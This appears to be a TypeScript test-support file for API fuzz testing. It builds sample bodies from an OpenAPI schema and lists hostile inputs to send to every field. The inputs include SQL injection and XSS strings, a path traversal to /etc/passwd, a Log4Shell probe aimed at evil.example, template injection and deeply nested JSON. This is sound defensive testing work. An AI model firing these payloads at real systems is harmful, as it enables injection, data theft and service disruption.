// Test support for bad-input.test.ts: reads the OpenAPI document, builds plausible bodies from its schemas,
// and lists the hostile values thrown at every field.

export interface JsonSchema {
  $ref?: string;
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  additionalProperties?: boolean | JsonSchema;
  items?: JsonSchema;
  enum?: unknown[];
  const?: unknown;
  default?: unknown;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  allOf?: JsonSchema[];
  format?: string;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: number;
  minItems?: number;
}
export interface Parameter {
  name: string;
  in: 'query' | 'path' | 'header';
  required?: boolean;
  schema: JsonSchema;
}
export interface OpenApiOperation {
  parameters?: Parameter[];
  requestBody?: { content?: Record<string, { schema: JsonSchema }> };
}
export interface OpenApiDocument {
  paths: Record<string, Record<string, OpenApiOperation>>;
  components?: { schemas?: Record<string, JsonSchema> };
}
export interface Operation {
  key: string;
  method: 'POST' | 'PUT' | 'PATCH' | 'DELETE';
  path: string;
  body: JsonSchema;
  parameters: Parameter[];
}
export type Json = string | number | boolean | null | Json[] | { [key: string]: Json };
export type JsonPath = (string | number)[];

export const DEEP_MARKER = 'DEEP-JSON-MARKER';
export const DEEP_JSON = `${'{"a":'.repeat(5000)}"x"${'}'.repeat(5000)}`;
export const DEEP_ARRAY = `${'['.repeat(5000)}${']'.repeat(5000)}`;

export const HOSTILE_STRINGS = [
  "'; DROP TABLE users; --",
  "' OR '1'='1' --",
  'Robert"); DELETE FROM sessions; --',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '\u0000',
  'before\u0000after',
  '\ud800',
  '%00',
  '../../../etc/passwd',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the Log4Shell probe is meant as literal text
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  'x'.repeat(100_000),
  '🦉'.repeat(1000),
  'مرحبا\u202Eevil',
  'NaN',
  'Infinity',
  '-0',
  '1e308',
  'null',
  '',
  ' ',
];
/** Wrong types in a string field; DEEP_MARKER becomes 5000 levels of nested JSON. */
export const HOSTILE_NON_STRINGS: Json[] = [1e308, -0, -1e308, null, true, [], {}, { $gt: '' }, DEEP_MARKER];
export const HOSTILE_NUMBERS: Json[] = [
  1e308,
  -1e308,
  -0,
  1e-308,
  5e-324,
  2 ** 53,
  2147483648,
  -1,
  'NaN',
  'Infinity',
  '1e308',
  null,
  DEEP_MARKER,
];

/** The schema a `$ref` points at; throws on a reference to nothing. */
export function resolve(doc: OpenApiDocument, schema: JsonSchema): JsonSchema {
  if (!schema.$ref) return schema;
  const name = schema.$ref.replace('#/components/schemas/', '');
  const target = doc.components?.schemas?.[name];
  if (!target) throw new Error(`dangling $ref ${schema.$ref}`);
  return resolve(doc, target);
}

/** A plausible value for a schema, with every optional property filled so every field gets attacked. */
export function sample(doc: OpenApiDocument, raw: JsonSchema, unique: string, depth = 0): Json {
  const schema = resolve(doc, raw);
  if (depth > 8) return null;
  if (schema.const !== undefined) return schema.const as Json;
  if (schema.enum?.length) return schema.enum[0] as Json;
  const options = schema.anyOf ?? schema.oneOf ?? schema.allOf;
  if (options?.length) {
    const first = options.find((o) => resolve(doc, o).type !== 'null') ?? options[0];
    return first ? sample(doc, first, unique, depth + 1) : null;
  }
  const type = Array.isArray(schema.type) ? schema.type.find((x) => x !== 'null') : schema.type;
  switch (type) {
    case 'object': {
      const result: Record<string, Json> = {};
      for (const [name, property] of Object.entries(schema.properties ?? {}))
        result[name] = sample(doc, property, unique, depth + 1);
      if (!schema.properties && typeof schema.additionalProperties === 'object')
        result.sample = sample(doc, schema.additionalProperties, unique, depth + 1);
      return result;
    }
    case 'array':
      return schema.items ? [sample(doc, schema.items, unique, depth + 1)] : [];
    case 'string': {
      if (schema.format === 'email') return `sample${unique}@example.com`;
      if (schema.format === 'date-time') return new Date().toISOString();
      if (schema.format === 'uri' || schema.format === 'url') return 'https://example.com/sample';
      const text = 'sample-text-value'.padEnd(schema.minLength ?? 0, 'x');
      return text.slice(0, schema.maxLength ?? text.length);
    }
    case 'integer':
    case 'number': {
      const low = schema.minimum ?? (schema.exclusiveMinimum !== undefined ? schema.exclusiveMinimum + 1 : 1);
      return Math.min(Math.max(low, 1), schema.maximum ?? 1);
    }
    case 'boolean':
      return true;
    case 'null':
      return null;
    default:
      return 'sample';
  }
}

/** Every operation of the document that takes a JSON body. */
export function operationsWithJsonBody(doc: OpenApiDocument): Operation[] {
  return Object.entries(doc.paths).flatMap(([path, methods]) =>
    Object.entries(methods).flatMap(([method, op]) => {
      const body = op.requestBody?.content?.['application/json']?.schema;
      if (!body) return [];
      const upper = method.toUpperCase() as Operation['method'];
      return [{ key: `${upper} ${path}`, method: upper, path, body, parameters: op.parameters ?? [] }];
    }),
  );
}

export const serialise = (body: Json) => JSON.stringify(body).replaceAll(`"${DEEP_MARKER}"`, DEEP_JSON);

export function setAt(body: Json, path: JsonPath, value: Json): Json {
  const copy = structuredClone(body);
  let node = copy as Record<string | number, Json>;
  for (const key of path.slice(0, -1)) node = node[key] as Record<string | number, Json>;
  const last = path[path.length - 1];
  if (last !== undefined) node[last] = value;
  return copy;
}

export function leaves(value: Json, kind: 'string' | 'number', path: JsonPath = []): JsonPath[] {
  if (typeof value === kind) return [path];
  if (Array.isArray(value)) return value.flatMap((v, i) => leaves(v, kind, [...path, i]));
  if (value && typeof value === 'object')
    return Object.entries(value).flatMap(([k, v]) => leaves(v, kind, [...path, k]));
  return [];
}

/** `METHOD /path` for every route in Fastify's printed route tree (HEAD routes are Fastify's own copies). */
export function registeredRoutes(tree: string): string[] {
  const routes: string[] = [];
  const prefixes: string[] = [];
  for (const line of tree.split('\n')) {
    const at = line.search(/[├└]── /);
    if (at < 0) continue;
    const depth = at / 4;
    const text = line.slice(at + 4);
    const match = text.match(/^(.*) \(([^)]*)\)$/);
    const segment = match?.[1] ?? text;
    const path = (prefixes[depth - 1] ?? '') + segment;
    prefixes[depth] = path;
    prefixes.length = depth + 1;
    for (const method of (match?.[2] ?? '').split(',').map((m) => m.trim()))
      if (method && method !== '-' && method !== 'HEAD')
        routes.push(`${method} ${path.replace(/:(\w+)/g, '{$1}')}`);
  }
  return routes;
}
